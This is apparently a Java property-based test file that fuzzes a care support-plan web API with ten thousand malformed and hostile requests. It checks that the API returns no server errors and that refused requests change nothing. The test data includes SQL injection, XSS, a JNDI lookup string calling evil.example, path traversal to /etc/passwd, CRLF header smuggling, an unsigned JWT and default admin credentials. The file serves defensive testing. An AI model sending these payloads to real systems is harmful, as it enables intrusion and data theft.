package org.supportplan.adapter.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.supportplan.adapter.web.TestApp.COMPLETE;
import static org.supportplan.adapter.web.TestApp.JSON;
import static org.supportplan.adapter.web.TestApp.ok;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

import org.junit.jupiter.api.Test;
import org.quicktheories.core.Gen;
import org.supportplan.adapter.web.TestApp.PlanClient;
import org.supportplan.adapter.web.openapi.ContractValidator;
import org.supportplan.application.audit.AuditAction;
import org.supportplan.application.testdata.InMemoryStore;
import org.supportplan.domain.testdata.PlanFixtures;

/**
 * Ten thousand malformed and hostile requests, built from the contract's operations and a valid body for each:
 * wrong types, huge strings, deep nesting, injection strings, bad dates, unknown fields, numbers out of range,
 * broken JSON, wrong media types, bad ids and headers. Whatever arrives, the server never fails (no 5xx), every error
 * is a problem document, every exchange keeps to the contract (the client checks it), and a refused request leaves
 * the store as it was: no plan written and no audit entry but a read.
 */
class HostileRequestsTheoryTest {

    /** At least ten thousand requests (QuickTheories may count one example fewer than asked). */
    private static final int EXAMPLES = 10_000;
    private static final Set<AuditAction> READS = EnumSet.of(AuditAction.PLAN_READ, AuditAction.ACCOUNT_READ,
            AuditAction.AUDIT_REPORT_READ);

    private static final List<String> INJECTIONS = List.of("'; DROP TABLE plans; --", "\" OR \"1\"=\"1", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "\u0000", "\u202Eevil", "\uD800",
            "%00%0d%0aSet-Cookie: x=1", "$where: '1 == 1'", "\r\nX-Injected: yes", "🙂".repeat(50));
    private static final List<String> BAD_DATES = List.of("2026-02-30", "2026-13-01", "0000-00-00", "99999-01-01", "2026-1-1",
            "yesterday", "2026-04-01T00:00:00Z", "", " 2026-04-01", "2026/04/01", "+2026-04-01", "-0001-01-01");
    private static final List<String> BAD_IDS = List.of("not-a-uuid", "00000000-0000-0000-0000-000000000000", "..%2F..%2Fetc",
            "%27%20OR%201%3D1", "%3Cscript%3E", "x".repeat(300), "%F0%9F%99%82", "DP-100234%00", "%2e%2e", "-1", "1e9",
            "0", "999999999999999999999");
    private static final List<JsonNode> WRONG_TYPES = List.of(JSON.getNodeFactory().numberNode(42),
            JSON.getNodeFactory().numberNode(-1.5), JSON.getNodeFactory().booleanNode(true), JSON.getNodeFactory().nullNode(),
            JSON.createArrayNode().add("a"), JSON.createObjectNode().put("a", 1), TextNode.valueOf("text"),
            JSON.getNodeFactory().numberNode(new java.math.BigDecimal("1e400")),
            JSON.getNodeFactory().numberNode(new java.math.BigInteger("99999999999999999999999")));
    private static final List<String> RAW = List.of("", "{", "}", "[]", "null", "\"text\"", "42", "{\"a\":1}{\"b\":2}",
            "{\"a\":1,\"a\":2}", "{'single': 'quotes'}", "{\"a\": NaN}", "\u0000\u0001\u0002", "<xml/>", "{\"a\":\"\\ud800\"}",
            "{\"a\":1,}", "[".repeat(3000), "{\"x\":" + "[".repeat(1500) + "]".repeat(1500) + "}");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "application/json; charset=utf-16", "text/csv; charset=latin1", "");
    private static final List<String> IF_MATCH = List.of("*", "\"1\"", "W/\"1\"", "garbage", "\"999999999999999999999\"", "\"1\", \"2\"");

    private static final String NESTED = "@nested@";
    /** The routes only a finance auditor may call: everything else is sent as a care manager of every council. */
    private static final java.util.Set<String> AUDITORS_ONLY = java.util.Set.of("POST /accounts/{id}/transactions",
            "POST /accounts/{id}/audits");
    /** Now and then the token itself is hostile. */
    private static final List<String> BAD_AUTHORIZATIONS = List.of("Bearer ' OR 1=1 --", "Bearer", "Basic YWRtaW46YWRtaW4=",
            "Bearer " + "x".repeat(6000), "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "bearer  " + TestApp.CARE_MANAGER + "x");

    private final InMemoryStore store = new InMemoryStore();
    private final TestClock clock = new TestClock(PlanFixtures.CREATED_AT);

    /** What one request is: an operation, what is done to it, and choices that pick values. */
    record Hostile(int operation, int kind, int target, int pick, int header) {
    }

    @Test
    void noHostileRequestFailsTheServerOrChangesTheStoreWhenRefused() {
        List<String> operations = ContractValidator.get().operations();
        Map<String, String> bodies = new java.util.HashMap<>();
        AtomicInteger sent = new AtomicInteger();
        String[] previous = {""};
        TestApp.test(TestApp.app(store, clock, WebSettings.defaults().withClock(clock)), (server, client) -> {
            PlanClient draft = PlanClient.create(client, COMPLETE);
            PlanClient agreed = PlanClient.create(client, COMPLETE.replace("\"councilId\": \"derbyshire\"", "\"councilId\": \"bury\""));
            ok(agreed.post("/submit", ""), 200);
            ok(agreed.post("/sign-off", "{\"signedOffBy\": \"CM-0042\", \"finalBudgetAnnual\": \"16000.00\"}"), 200);
            clock.set("2026-06-01");
            ok(TestApp.json(client, "POST", agreed.path() + "/accounts", body("POST /plans/{id}/accounts")), 201);
            operations.forEach(operation -> bodies.put(operation, body(operation)));
            List<String> ids = List.of(draft.path().substring(7), agreed.path().substring(7));

            Gen<Hostile> requests = integers().between(0, operations.size() - 1).zip(integers().between(0, 9),
                    integers().allPositive(), integers().allPositive(), integers().between(0, 15), Hostile::new);
            qt().withExamples(EXAMPLES + 50).withShrinkCycles(200).forAll(requests).checkAssert(hostile -> {
                String operation = operations.get(hostile.operation());
                HttpRequest request = request(client.getOrigin(), operation, bodies.get(operation), ids, hostile);
                int writes = store.writes();
                long changes = changes();

                HttpResponse<String> answer;
                try {
                    answer = sendRetryingAClosedConnection(request, previous[0]);
                } catch (java.io.UncheckedIOException e) {
                    // A body over the limit is refused before it is read, and the connection closed: a client still
                    // sending may see the close before the 413. Either way it was refused, and nothing may change.
                    assertThat(request.bodyPublisher().map(HttpRequest.BodyPublisher::contentLength).orElse(0L))
                            .as(operation + " " + hostile + ": " + e).isGreaterThan(WebSettings.DEFAULT_MAX_JSON_BYTES);
                    assertThat(store.writes()).isEqualTo(writes);
                    assertThat(changes()).isEqualTo(changes);
                    sent.incrementAndGet();
                    return;
                }
                previous[0] = operation + " " + hostile + " -> " + answer.statusCode() + " " + answer.headers().map();
                sent.incrementAndGet();

                String what = operation + " " + hostile + " -> " + answer.statusCode() + " " + answer.body();
                assertThat(answer.statusCode()).as(what).isLessThan(500);
                if (answer.statusCode() >= 400) {
                    assertThat(answer.headers().firstValue("Content-Type")).as(what).hasValueSatisfying(
                            type -> assertThat(type).startsWith("application/problem+json"));
                    assertThat(store.writes()).as(what).isEqualTo(writes);
                    assertThat(changes()).as(what).isEqualTo(changes);
                }
            });
        });
        assertThat(sent.get()).isGreaterThanOrEqualTo(EXAMPLES);
    }

    /** The audit entries that are not reads. */
    private long changes() {
        return store.entries().stream().filter(entry -> !READS.contains(entry.event().action())).count();
    }

    /**
     * Sends once more when the connection turns out to be closed before any answer: the JDK client may reuse a pooled
     * connection the server has just closed (after a refusal it did not read to the end), and then nothing was sent.
     */
    private static HttpResponse<String> sendRetryingAClosedConnection(HttpRequest request, String previous) {
        try {
            return send(request, previous);
        } catch (java.io.UncheckedIOException e) {
            return send(request, previous);
        }
    }

    private static HttpResponse<String> send(HttpRequest request, String previous) {
        try {
            return TestApp.CONTRACT_CLIENT.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException("after " + previous, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static HttpRequest request(String origin, String operation, String validBody, List<String> ids, Hostile hostile) {
        String method = operation.substring(0, operation.indexOf(' '));
        String template = operation.substring(operation.indexOf(' ') + 1);
        boolean badId = hostile.header() % 4 == 0;
        String path = template
                .replace("{id}", badId ? pick(BAD_IDS, hostile.pick())
                        : template.startsWith("/accounts") ? "DP-100234" : template.startsWith("/councils") ? "bury" : pick(ids, hostile.pick()))
                .replace("{version}", badId ? pick(BAD_IDS, hostile.target()) : "1")
                .replace("{reviewId}", UUID.randomUUID().toString())
                .replace("{reportId}", badId ? pick(BAD_IDS, hostile.target()) : UUID.randomUUID().toString())
                .replace("{asset}", badId ? pick(BAD_IDS, hostile.target()) : "initializer.js");
        if (template.equals("/councils/{id}/reviews/due") && hostile.kind() % 2 == 0) {
            path += "?within=" + URLEncoder.encode(pick(INJECTIONS, hostile.target()), StandardCharsets.UTF_8);
        }
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(origin + path)).timeout(Duration.ofSeconds(30));
        boolean csv = template.endsWith("/transactions");
        String contentType = csv ? "text/csv" : "application/json";
        String body = validBody == null ? pick(RAW, hostile.target()) : mutate(validBody, csv, hostile);
        if (hostile.kind() == 9) {
            contentType = pick(CONTENT_TYPES, hostile.pick());
        }
        if (!contentType.isEmpty()) {
            builder.header("Content-Type", contentType);
        }
        if (hostile.header() % 3 == 0) {
            builder.header("If-Match", pick(IF_MATCH, hostile.pick()));
        } else if (hostile.header() % 3 == 1) {
            builder.header("If-Match", "*");
        }
        if (hostile.header() >= 12) {
            builder.header("Idempotency-Key", "\"" + (hostile.pick() % 50) + "\"");
        }
        builder.header("Authorization", hostile.target() % 50 == 0 ? pick(BAD_AUTHORIZATIONS, hostile.pick())
                : "Bearer " + (AUDITORS_ONLY.contains(operation) ? TestApp.FINANCE_AUDITOR
                        : operation.equals("GET /metrics") ? TestApp.MONITORING : TestApp.CARE_MANAGER));
        return builder.method(method, method.equals("GET") ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofString(body)).build();
    }

    /** The valid body with one hostile change, as the kind says. */
    private static String mutate(String valid, boolean csv, Hostile hostile) {
        int kind = hostile.kind();
        if (csv) {
            return switch (kind) {
                case 0, 9 -> valid;
                case 8 -> pick(RAW, hostile.target());
                default -> valid + pick(INJECTIONS, hostile.target()) + "," + pick(BAD_DATES, hostile.pick()) + ",1e400\n";
            };
        }
        if (kind == 8) {
            return pick(RAW, hostile.target());
        }
        if (kind == 0 || kind == 9) {
            return valid;
        }
        JsonNode tree = read(valid);
        List<JsonNode> containers = new ArrayList<>();
        collect(tree, containers);
        JsonNode container = pick(containers, hostile.target());
        JsonNode replacement = switch (kind) {
            case 1 -> pick(WRONG_TYPES, hostile.pick());
            case 2 -> TextNode.valueOf("x".repeat(hostile.pick() % 3 == 0 ? 1_100_000 : 20_001 + hostile.pick() % 1000));
            case 3 -> TextNode.valueOf(NESTED); // written out below: too deep for the writer
            case 4 -> TextNode.valueOf(pick(INJECTIONS, hostile.pick()));
            case 5 -> TextNode.valueOf(pick(BAD_DATES, hostile.pick()));
            case 7 -> pick(WRONG_TYPES.subList(7, 9), hostile.pick());
            default -> null;
        };
        if (container instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            if (kind == 6 || names.isEmpty()) {
                object.put("unexpected" + hostile.pick() % 7, "value");
            } else {
                object.set(pick(names, hostile.pick()), replacement);
            }
        } else if (container instanceof ArrayNode array) {
            if (array.isEmpty() || kind == 6) {
                array.add(JSON.createObjectNode().put("unexpected", true));
            } else {
                array.set(hostile.pick() % array.size(), replacement);
            }
        }
        int depth = 600 + hostile.pick() % 1500;
        return tree.toString().replace("\"" + NESTED + "\"", "[".repeat(depth) + "]".repeat(depth));
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> collect(child, containers));
        }
    }

    private static <T> T pick(List<T> values, int choice) {
        return values.get(Math.floorMod(choice, values.size()));
    }

    private static JsonNode read(String json) {
        try {
            return JSON.readTree(json);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** A valid body for each operation that takes one (null for the others). */
    private static String body(String operation) {
        return switch (operation) {
            case "POST /plans", "POST /checks", "PUT /plans/{id}/content" -> COMPLETE;
            case "POST /plans/{id}/return" -> "{\"reasons\": [\"The risks section is empty.\"]}";
            case "POST /plans/{id}/sign-off" -> "{\"signedOffBy\": \"CM-0042\", \"finalBudgetAnnual\": \"16000.00\","
                    + " \"reassessment\": {\"reference\": \"RA-2026-118\", \"completedOn\": \"2026-05-30\"}}";
            case "POST /plans/{id}/activate" -> "{\"supportStart\": \"2026-05-04\"}";
            case "POST /plans/{id}/end" -> "{\"endedOn\": \"2027-01-31\"}";
            case "POST /plans/{id}/reviews" -> "{\"heldOn\": \"2026-05-28\", \"trigger\": \"SCHEDULED_INITIAL\", \"method\": \"HOME_VISIT\","
                    + " \"participants\": [\"PERSON\", \"CARE_MANAGER\"], \"budgetUse\": [{\"need\": \"n1\", \"howUsed\": \"The PA comes\"}],"
                    + " \"outcome\": {\"kind\": \"MINOR_CHANGE\", \"whatChanges\": \"Tuesdays\"}, \"coversDirectPayment\": false}";
            case "POST /plans/{id}/review-requests" -> "{\"requestedOn\": \"2026-05-30\", \"requestedBy\": \"CARER\"}";
            case "PUT /plans/{id}/review-interval" -> "{\"amount\": 6, \"unit\": \"MONTHS\"}";
            case "POST /plans/{id}/accounts" -> "{\"accountId\": \"DP-100234\", \"monitoringLevel\": \"standard\","
                    + " \"assessedOn\": \"2026-03-01\", \"assessedBy\": \"CM-0042\"}";
            case "PUT /accounts/{id}/monitoring" -> "{\"monitoringLevel\": \"enhanced\", \"assessedOn\": \"2026-05-20\", \"assessedBy\": \"CM-0077\"}";
            case "POST /accounts/{id}/audits" -> "{\"from\": \"2026-04-06\", \"to\": \"2026-05-03\"}";
            case "POST /accounts/{id}/transactions" -> "date,payee,amount,category,reference\n2026-04-08,J. Carter,-193.20,personal-assistant,FP-1\n";
            case "POST /plans/{id}/submit", "POST /plans/{id}/revise" -> "{}";
            default -> {
                assertThat(operation).as("an operation with a body has a template").startsWith("GET ");
                yield null;
            }
        };
    }
}
